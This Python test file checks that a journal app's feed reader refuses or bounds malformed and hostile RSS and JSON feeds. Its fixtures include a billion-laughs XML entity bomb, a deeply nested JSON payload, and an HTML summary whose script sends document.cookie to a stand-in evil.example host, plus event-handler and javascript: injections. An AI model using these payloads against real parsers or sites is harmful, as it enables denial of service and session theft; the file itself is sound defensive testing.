"""Bad and hostile feeds, served from 127.0.0.1: each is refused or bounded with a reason on its source, and
nothing already saved changes."""

from __future__ import annotations

import json
import sqlite3

import pytest

from journal.radar.api import Radar
from journal.radar.feeds import MAX_ENTRIES, FeedRefused, read_document
from journal.radar.text import SUMMARY_MAX, TEXT_MAX
from journal.store.database import Journal
from tests.radar.conftest import about_the_stories
from tests.radar.feeds import FeedServer, Item, rss

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>http://127.0.0.1/lol</link></item></channel></rss>"""


def snapshot(journal: Journal) -> list[list[tuple[object, ...]]]:
    """Every entry and suggestion, as stored."""
    with sqlite3.connect(journal.path) as connection:
        return [
            connection.execute(f"SELECT * FROM {table} ORDER BY id").fetchall()
            for table in ("radar_entry", "radar_suggestion")
        ]


@pytest.fixture
def watched(radar: Radar, server: FeedServer) -> tuple[Radar, FeedServer, str]:
    """A feed read once (three suggestions saved), whose file each test then replaces with something bad."""
    address = server.write("/feed.xml", rss(about_the_stories(server.base)))
    radar.add_feed(address)
    assert radar.fetch().suggested == 3
    return radar, server, address


MALFORMED = {
    "not xml at all": (b"\x00\x01 this is not a feed {{{", "not a feed"),
    "a web page without a feed": (b"<!doctype html><html><body>Hello</body></html>", "web page"),
    "billion laughs": (BILLION_LAUGHS, "billion laughs"),
    "json that is not json feed": (b'{"hello": "world"}', "not a JSON Feed"),
    "invalid json": (b'{"version": "https://jsonfeed.org/version/1.1", "items": [', "not valid JSON"),
    "json nested without end": (b"{" + b'"a":[' * 200_000 + b"]" * 200_000 + b"}", "JSON"),
    "json feed that is not utf-8": (
        '{"version": "https://jsonfeed.org/version/1.1", "title": "Caf\u00e9", "items": []}'.encode("latin-1"),
        "not UTF-8",
    ),
    "empty": (b"   ", "empty"),
}


@pytest.mark.parametrize("case", list(MALFORMED), ids=list(MALFORMED))
def test_a_bad_document_is_refused_with_its_reason_and_nothing_saved_changes(
    watched: tuple[Radar, FeedServer, str], sample: Journal, case: str
) -> None:
    radar, server, _address = watched
    before = snapshot(sample)
    etag = sample.engine.connect().exec_driver_sql("SELECT etag FROM radar_source").scalar()
    body, reason = MALFORMED[case]
    server.write("/feed.xml", body)

    report = radar.fetch()

    (result,) = report.sources
    assert result.state == "failed"
    assert reason.lower() in result.message.lower(), result.message
    (source,) = radar.sources()
    assert source.state == "failed" and source.message == result.message and source.retry_at is not None
    assert snapshot(sample) == before
    with sample.engine.connect() as connection:
        assert connection.exec_driver_sql("SELECT etag FROM radar_source").scalar() == etag


def test_billion_laughs_is_refused_before_any_parser_expands_it() -> None:
    with pytest.raises(FeedRefused, match="billion laughs"):
        read_document(BILLION_LAUGHS)
    utf16 = BILLION_LAUGHS.decode("ascii").replace('version="1.0"', 'version="1.0" encoding="utf-16"')
    with pytest.raises(FeedRefused, match="billion laughs"):
        read_document(utf16.encode("utf-16"))


def test_a_feed_that_is_not_well_formed_keeps_what_can_be_read_and_says_so(
    watched: tuple[Radar, FeedServer, str],
) -> None:
    radar, server, _address = watched
    server.write(
        "/feed.xml",
        b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Sloppy</title>'
        b"<item><title>Fish & chips & a free refill</title><link>http://127.0.0.1/fish</link></item>"
        b"<item><title>Unclosed</title><link>http://127.0.0.1/unclosed</link></channel>",
    )
    (result,) = radar.fetch().sources
    assert result.state == "read" and result.new_entries >= 1
    assert "not well-formed XML" in result.message


def test_a_feed_of_100000_entries_is_read_up_to_its_first_500(watched: tuple[Radar, FeedServer, str]) -> None:
    radar, server, _address = watched
    items = "".join(
        f"<item><title>Post number {number}</title><link>http://127.0.0.1/p/{number}</link></item>"
        for number in range(100_000)
    )
    server.write(
        "/feed.xml", f'<?xml version="1.0"?><rss version="2.0"><channel><title>Huge</title>{items}</channel></rss>'
    )

    (result,) = radar.fetch().sources

    assert result.state == "read"
    assert result.new_entries == MAX_ENTRIES
    assert "100,000 entries; only the first 500" in result.message
    titles = [entry.title for entry in radar.unmatched(limit=1000)]
    assert "Post number 0" in titles and "Post number 499" in titles and "Post number 500" not in titles


def test_an_entry_of_10_mb_is_bounded(watched: tuple[Radar, FeedServer, str], sample: Journal) -> None:
    radar, server, _address = watched
    huge = "<p>" + "The rep stayed late to help. " * 360_000 + "</p>"  # about 10 MB
    server.write("/feed.xml", rss([Item("A very long post", "http://127.0.0.1/long", guid="long", summary=huge)]))

    (result,) = radar.fetch().sources

    assert result.state == "read" and result.new_entries == 1
    assert "longer than 256 KB" in result.message
    with sqlite3.connect(sample.path) as connection:
        summary, text = connection.execute("SELECT summary, text FROM radar_entry WHERE guid = 'long'").fetchone()
    assert len(summary) <= SUMMARY_MAX + 100 and len(text) <= TEXT_MAX


def test_scripts_and_handlers_in_summaries_are_stored_and_shown_sanitised(
    radar: Radar, server: FeedServer, sample: Journal
) -> None:
    hostile = (
        '<p onclick="steal()">Zappos sent flowers after my mother died'
        "<script>document.location='http://evil.example/'+document.cookie</script>"
        '<a href="javascript:alert(1)">click</a> <a href="https://fine.example/">fine</a>'
        '<img src="x" onerror="alert(2)"><iframe src="http://evil.example/"></iframe></p>'
    )
    items = about_the_stories(server.base)[:1]
    items[0].summary = hostile
    radar.add_feed(server.write("/feed.xml", rss(items)))
    radar.fetch()
    with sqlite3.connect(sample.path) as connection:
        summary, text = connection.execute("SELECT summary, text FROM radar_entry").fetchone()
    for bad in ("<script", "onclick", "javascript:", "onerror", "<iframe", "<img", "document.cookie"):
        assert bad not in summary and bad not in text
    assert '<a href="https://fine.example/"' in summary and "mother died" in text
    (suggestion,) = radar.suggestions()
    assert "document" not in suggestion.excerpt and "alert" not in suggestion.excerpt


def test_duplicate_guids_in_one_feed_keep_the_first(radar: Radar, server: FeedServer) -> None:
    items = [Item(f"Post {number}", f"http://127.0.0.1/dup/{number}", guid="same-guid") for number in range(4)]
    radar.add_feed(server.write("/feed.xml", rss(items)))
    (result,) = radar.fetch().sources
    assert result.new_entries == 1
    assert "3 entries repeated the GUID of an earlier one; the first was kept" in result.message
    assert [entry.title for entry in radar.unmatched()] == ["Post 0"]


@pytest.mark.parametrize(
    ("encoding", "declared", "note"),
    [("iso-8859-1", True, False), ("shift_jis", True, False), ("windows-1252", False, True)],
    ids=["latin-1", "shift-jis", "undeclared-windows-1252"],
)
def test_feeds_in_other_encodings_are_read_right(
    radar: Radar, server: FeedServer, encoding: str, declared: bool, note: bool
) -> None:
    title = "日本語のブログ：ホテルの親切" if encoding == "shift_jis" else "Caf\u00e9 cr\u00e8me \u2014 service"
    if encoding == "iso-8859-1":
        title = "Caf\u00e9 cr\u00e8me, na\u00efve fa\u00e7ade"
    body = rss([Item(title, "http://127.0.0.1/encoded", guid="enc")], encoding=encoding)
    if not declared:
        body = body.replace(f'encoding="{encoding}"'.encode(), b"")
    radar.add_feed(server.write("/feed.xml", body))
    (result,) = radar.fetch().sources
    assert result.state == "read"
    assert [entry.title for entry in radar.unmatched()] == [title]
    assert ("encoding" in result.message) == note


def test_json_feed_items_of_the_wrong_shape_are_left_out_and_counted(radar: Radar, server: FeedServer) -> None:
    document = {
        "version": "https://jsonfeed.org/version/1",
        "title": "Mixed",
        "items": [
            {"id": 1, "url": "http://127.0.0.1/a", "title": "A number id is a string id", "content_text": "x"},
            {"id": "b", "title": "No address at all"},
            "not an item",
            {"id": None, "url": "http://127.0.0.1/c"},
            {"id": "d", "url": "javascript:alert(1)", "title": "Not a web address"},
            {"id": "e", "url": "/relative", "title": ["not", "text"], "date_published": "yesterday"},
        ],
        "home_page_url": "http://127.0.0.1/",
    }
    radar.add_feed(server.write("/feed.json", json.dumps(document)))
    (result,) = radar.fetch().sources
    assert result.state == "read" and result.new_entries == 2
    assert "4 of the items had no id or no web address, or were not items; left out." in result.message
    assert sorted(entry.link for entry in radar.unmatched()) == ["http://127.0.0.1/a", "http://127.0.0.1/relative"]
